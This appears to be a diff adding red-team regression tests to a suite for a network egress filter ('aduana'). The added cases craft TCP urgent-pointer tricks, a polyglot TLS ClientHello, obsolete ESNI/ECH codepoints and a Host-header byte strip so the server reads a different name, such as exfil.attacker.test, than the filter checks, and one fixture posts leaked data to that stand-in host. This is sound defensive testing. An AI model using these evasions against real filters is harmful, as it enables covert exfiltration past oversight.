@@ -7038,6 +7038,307 @@ def case_rtk2_early_h2c_vk(n):
     return cap, {"leak": [leak(n)]}
 
 
+# --- red team round 3 (this session): urgent pointers on bare ACKs, ECH drafts at a
+# shared front, name spelling. Ports 46000-46999 (e2m), 49300-49399 (office).
+
+def rt3_urg_ack(t, off):
+    """A bare ACK with URG whose urgent pointer names the byte `off` bytes past the
+    sender's next byte (Linux without tcp_stdurg: seq + urg_ptr - 1, tcp_check_urg).
+    No payload: a duplicate ACK to the peer."""
+    t.raw(True, "AU", b"", tcpkw={"urgptr": off + 1})
+
+
+def rt3_front_polyglot(seed, mark_sid=None):
+    """A ClientHello stream S that aduana's strict reader takes for portal.customs.example
+    (two handshake records), and that a Linux server reads, with the byte at urg_off taken
+    out, as a hello for exfil.attacker.test (three records). Returns (S, urg_off, rest)
+    where rest is what aduana reads after the hello (an early-data record of 7 bytes
+    whose body is one byte and then a ChangeCipherSpec record: to the server, that CCS)."""
+    c = 8                                    # the server's second record: 8 content bytes
+    sni_evil = rt25_sni(EVIL)                # 28 bytes
+    sni_front = rt25_sni(FRONT_NAME)         # 31 bytes
+    L_E1 = 203
+    k = 14 + c                               # E0 (session_ticket) body
+    e0_pre = prand(seed + "e0a", 4)          # E0 body bytes before the boundary
+    # E0 body from the record boundary on: C (= c), c content bytes, the server's R3
+    # header (filled in below), 4 more bytes
+    e1_body_head = prand(seed + "e1h", 2)
+    F_len = (L_E1 - 2 - len(sni_evil) - 4) + len(sni_front) + 6
+    e1_body = (e1_body_head + sni_evil + struct.pack("!HH", 0x0015, F_len)
+               + b"\x00" * (L_E1 - 2 - len(sni_evil) - 4))
+    assert len(e1_body) == L_E1
+    prefix_exts = std_exts(seed) + [alpn_ext()]
+    sid = mark_sid if mark_sid is not None else prand(seed + "s", 32)
+
+    def build(r3hdr):
+        e0_body = e0_pre + bytes([c]) + prand(seed + "e0c", c) + r3hdr + prand(seed + "e0z", 4)
+        assert len(e0_body) == k
+        exts = prefix_exts + [ext(0x0023, e0_body), ext(0x0015, e1_body), sni_front]
+        eb = b"".join(exts)
+        body = (b"\x03\x03" + prand(seed + "r", 32) + b"\x20" + sid + struct.pack("!H", len(CIPHERS))
+                + CIPHERS + b"\x01\x00" + struct.pack("!H", len(eb)) + eb)
+        hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
+        n1 = hs.find(e0_body) + 4            # the record boundary: E0 body byte 4 (= c)
+        return hs, n1
+
+    hs, n1 = build(b"\x16\x03\x01\x00\x00")
+    T = len(hs)
+    assert (T - n1) % 256 == 0 and T - n1 == 256, (T, n1)
+    L3 = T - n1 - c
+    hs, n1b = build(b"\x16\x03\x01" + struct.pack("!H", L3))
+    assert n1b == n1 and len(hs) == T
+    S = record(22, hs[:n1]) + b"\x16\x03\x01\x01\x00" + hs[n1:]
+    urg_off = 5 + n1 + 3                     # the high byte of the second record's length
+    rest = b"\x17\x03\x03\x00\x07" + b"\x00" + CCS
+    return S + rest, urg_off
+
+
+def rt3_read_hellos(stream, strip=None):
+    """A lenient reader (OpenSSL's order: records of type 22 joined, then the hello's
+    fields and extensions) over stream, the byte at strip taken out. Returns (sni, end)."""
+    if strip is not None:
+        stream = stream[:strip] + stream[strip + 1:]
+    i, msg, need = 0, b"", None
+    while need is None or len(msg) < need:
+        assert stream[i] == 22 and stream[i + 1] == 3, stream[i:i + 5].hex()
+        ln = struct.unpack("!H", stream[i + 3:i + 5])[0]
+        msg += stream[i + 5:i + 5 + ln]
+        i += 5 + ln
+        if need is None and len(msg) >= 4:
+            need = 4 + int.from_bytes(msg[1:4], "big")
+    assert len(msg) == need and msg[0] == 1
+    p = 4 + 2 + 32
+    p += 1 + msg[p]
+    p += 2 + struct.unpack("!H", msg[p:p + 2])[0]
+    p += 1 + msg[p]
+    el = struct.unpack("!H", msg[p:p + 2])[0]
+    p += 2
+    assert p + el == need
+    sni, seen = None, set()
+    while p < need:
+        et, ln = struct.unpack("!HH", msg[p:p + 4])
+        assert et not in seen
+        seen.add(et)
+        if et == 0:
+            nl = struct.unpack("!H", msg[p + 7:p + 9])[0]
+            assert struct.unpack("!H", msg[p + 4:p + 6])[0] == ln - 2 and nl == ln - 5
+            sni = msg[p + 9:p + 9 + nl].decode()
+        p += 4 + ln
+    assert p == need
+    return sni, i
+
+
+@case
+def case_rt3_urg_ack_front(n):
+    """(Red team round 3) The shared front: the client's third handshake ACK is followed by
+    a bare duplicate ACK with URG whose urgent pointer names a byte of the hello to come
+    (the high byte of its second record's length). Linux takes an urgent pointer from any
+    segment, a bare ACK too (tcp_rcv_established slow path: tcp_urg, tcp_check_urg), and
+    takes the urgent byte out of the stream when it arrives in a later segment without URG
+    (tcp_urg fetches it; tcp_recvmsg skips it unless SO_OOBINLINE, which nginx and OpenSSL
+    do not set). aduana looks at URG only on segments with bytes (judge_tcp: a bare ACK is
+    TCP_GO before the URG test), and reads all of them. The hello is a polyglot: read whole,
+    two records naming portal.customs.example (strictly valid); read without that byte, its
+    second record is 8 bytes long, a third record header follows inside the session_ticket
+    extension, and the extensions, shifted by 6 bytes, name exfil.attacker.test (the front
+    serves that site); the 6 bytes past aduana's hello (an early-data record header and one
+    byte) end the server's hello, and both framings meet again at the client's
+    ChangeCipherSpec. Must drop: the outer name proves nothing once the stream is not the
+    one the front reads (fix: refuse URG on any segment of a flow with a slot or a check,
+    bare or not)."""
+    S, urg = rt3_front_polyglot(n, mark_sid=sid32(leak(n)))
+    assert rt3_read_hellos(S)[0] == FRONT_NAME
+    assert rt3_read_hellos(S, strip=urg)[0] == EVIL
+    cap = Capture()
+    t = ETcp(cap, S1, 46951, FRONT, 443, isn=46951 * 3, rtt_us=20000)
+    t.handshake()
+    rt3_urg_ack(t, urg)
+    t.send(True, S)
+    t.ack(False)
+    t.data(False, server_hello_flight(n))
+    t.data(True, tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(leak(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt3_urg_ack_front_ctl(n):
+    """(Red team round 3) Control for rt3_urg_ack_front: the same polyglot stream without
+    the URG bare ACK. Both readers see portal.customs.example (the record split and the
+    early-data record are what a client may send), so it is allowed: the bypass is the
+    urgent pointer alone."""
+    S, urg = rt3_front_polyglot(n)
+    cap = Capture()
+    t = ETcp(cap, S1, 46952, FRONT, 443, isn=46952 * 3, rtt_us=20000)
+    t.handshake()
+    t.send(True, S)
+    t.ack(False)
+    t.data(False, server_hello_flight(n))
+    t.data(True, tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt3_urg_ack_host_vk(n):
+    """(Red team round 3) Office HTTP: after the handshake a bare ACK with URG whose urgent
+    pointer names the "x" of "Host: m.vkx.com" in the request to come; the request itself
+    carries no URG. Linux (nginx, no SO_OOBINLINE) takes the urgent byte out of the stream
+    when it arrives (tcp_urg, tcp_recvmsg), and serves Host: m.vk.com; aduana reads
+    m.vkx.com (no class) and allows. rtk_urg_vk is refused only because its URG rides the
+    data segment. Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 49300, SOC, 80, isn=49300 * 3, rtt_us=20000)
+    t.handshake()
+    pre = b"GET /feed HTTP/1.1\r\nHost: m.vk"
+    req = pre + b"x.com\r\nUser-Agent: Mozilla/5.0\r\nX-Mark: " + leak(n) + b"\r\nAccept: */*\r\n\r\n"
+    rt3_urg_ack(t, len(pre))
+    t.data(True, req)
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt3_urg_ack_e2m(n):
+    """(Red team round 3) Strict zone, after the allow: a bare ACK with URG naming the first
+    byte of the client's next record header, then that record (no URG) and plaintext HTTP
+    behind it. The server (Linux) reads the stream without that byte: its record layer is
+    one byte off from aduana's, which frames the rest as records. Whatever the server
+    makes of it, the check no longer reads the stream the server reads. Must drop."""
+    cap = Capture()
+    t = tls_established(cap, S1, 46953, E2M, 46953 * 3, n)
+    rt3_urg_ack(t, 0)
+    body = leak(n) + b" POST /x HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n"
+    t.data(True, record(23, body, 0x0303))
+    t.data(False, tls_appdata(n + "r2", 100))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt3_urgptr_noflag_ok(n):
+    """(Red team round 3, honest twin) A genuine e2m session whose client segments, bare
+    ACKs and data, carry a non-zero urgent pointer field with URG clear (left over by the
+    sender's stack; RFC 9293: the field is read only with URG, and Linux ignores it). Must
+    allow: a fix for rt3_urg_ack_* must look at the flag, not the field."""
+    cap = Capture()
+    t = ETcp(cap, S1, 46954, E2M, 443, isn=46954 * 3, rtt_us=20000)
+    t.handshake()
+    t.raw(True, "A", b"", tcpkw={"urgptr": 7})
+    h = hello(n)
+    t.raw(True, "PA", h, tcpkw={"urgptr": 7})
+    t.cseq += len(h)
+    t.ack(False)
+    t.data(False, server_hello_flight(n))
+    d = CCS + tls_appdata(n + "fin", 53)
+    t.raw(True, "PA", d, tcpkw={"urgptr": 3})
+    t.cseq += len(d)
+    d = marked_record(passm(n), n + "req")
+    t.raw(True, "PA", d, tcpkw={"urgptr": 3})
+    t.cseq += len(d)
+    t.ack(False)
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+def rt3_front_ext_flow(n, cport, extra, marker):
+    cap = Capture()
+    tls_flow(cap, S1, cport, FRONT, cport * 3, n,
+             send_whole(hello(n, sni=FRONT_NAME, sid=sid32(marker) if marker.startswith(b"LEAK") else None,
+                              extra=extra)), marker)
+    return cap
+
+
+@case
+def case_rt3_esni_front(n):
+    """(Red team round 3) The shared front, with the pre-ECH "encrypted_server_name"
+    extension (0xffce, draft-ietf-tls-esni-01..06: cipher suite, key share, record digest,
+    encrypted SNI) beside the outer server_name portal.customs.example. A front that
+    implements it (Cloudflare served ESNI 2018-2020, Firefox 64-84 sent it) serves the
+    encrypted name; aduana knows only 0xfe0d as ECH (tls.c), so the outer name is judged
+    and allowed. Must drop (exception:ech at a shared front)."""
+    esni = (struct.pack("!H", 0x1301) + struct.pack("!HH", 29, 32) + prand(n + "ks", 32)
+            + struct.pack("!H", 32) + prand(n + "dg", 32) + struct.pack("!H", 148) + prand(n + "es", 148))
+    return rt3_front_ext_flow(n, 46960, [ext(0xFFCE, esni)], leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_rt3_ech_d10_front(n):
+    """(Red team round 3) The shared front, with encrypted_client_hello under the codepoint
+    of draft-ietf-tls-esni-10 (0xfe0a; drafts 9 to 12 had 0xfe09..0xfe0c, each deployed in
+    interop builds of BoringSSL, NSS and Cloudflare's front), outer name
+    portal.customs.example. A front that still speaks that draft decrypts the inner hello
+    and serves its name. aduana sets has_ech for 0xfe0d only. Must drop."""
+    ech = (struct.pack("!HH", 1, 1) + b"\x2a" + struct.pack("!H", 32) + prand(n + "enc", 32)
+           + struct.pack("!H", 144) + prand(n + "ech", 144))
+    return rt3_front_ext_flow(n, 46961, [ext(0xFE0A, ech)], leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_rt3_front_exts_ok(n):
+    """(Red team round 3, honest twin) The shared front with the extensions Chrome, Firefox
+    and Safari send beside the name: status_request, renegotiation_info (0xff01),
+    session_ticket, extended_master_secret, compress_certificate, ALPS (0x4469, 0x44cd),
+    record_size_limit, delegated_credentials, psk modes, signed_certificate_timestamp and
+    two GREASE types. None hides a name: must allow (a fix that treats every 0xfe/0xff
+    codepoint as ECH would refuse 0xff01)."""
+    extra = [ext(5, b"\x01\x00\x00\x00\x00"), ext(0xFF01, b"\x00"), ext(35, b""), ext(23, b""),
+             ext(27, b"\x02\x00\x02"), ext(0x4469, b"\x00\x03\x02h2"), ext(0x44CD, b"\x00\x03\x02h2"),
+             ext(28, b"\x40\x01"), ext(34, b"\x00\x08\x04\x03\x05\x03\x06\x03\x02\x03"),
+             ext(45, b"\x01\x01"), ext(18, b""), ext(0x0A0A, b""), ext(0x4A4A, b"\x00")]
+    return rt3_front_ext_flow(n, 46962, extra, passm(n)), {"pass": [passm(n)]}
+
+
+@case
+def case_rt3_sni_upper_ok(n):
+    """(Red team round 3, honest) SNI "E2M.Customs.Example": names are case-insensitive
+    (RFC 6066 3, RFC 4343); nginx lowercases before matching. Must allow."""
+    cap = Capture()
+    tls_flow(cap, S1, 46970, E2M, 46970 * 3, n, send_whole(hello(n, sni="E2M.Customs.Example")), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt3_sni_suffix_nodot(n):
+    """(Red team round 3) SNI "xe2m.customs.example": ends like the endpoint's names but is
+    neither e2m.customs.example nor under *.e2m.customs.example (no dot before e2m). Must
+    drop (no endpoint matches)."""
+    cap = Capture()
+    tls_flow(cap, S1, 46971, E2M, 46971 * 3, n,
+             send_whole(hello(n, sni="xe2m.customs.example", sid=sid32(leak(n)))), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt3_sni_wild_bare(n):
+    """(Red team round 3) SNI "customs.example": the parent of the endpoint's names, which
+    neither e2m.customs.example nor *.e2m.customs.example covers. Must drop."""
+    cap = Capture()
+    tls_flow(cap, S1, 46972, E2M, 46972 * 3, n,
+             send_whole(hello(n, sni="customs.example", sid=sid32(leak(n)))), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt3_compress_deflate_ok(n):
+    """(Red team round 3, honest) A TLS 1.2 client built with zlib (OpenSSL 1.0.x) offers
+    compression methods [deflate, null]; the server picks null. Must allow."""
+    h = hs_client_hello(n)
+    i = h.find(CIPHERS) + len(CIPHERS)
+    assert h[i:i + 2] == b"\x01\x00"
+    body = h[4:i] + b"\x02\x01\x00" + h[i + 2:]
+    m = b"\x01" + struct.pack("!I", len(body))[1:] + body
+    cap = Capture()
+    tls_flow(cap, S1, 46973, E2M, 46973 * 3, n, send_whole(record(22, m)), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
 def rt25_hello_exts(seed, exts, sid=None, ciphers=CIPHERS):
     eb = b"".join(exts)
     sid = prand(seed + "s", 32) if sid is None else sid
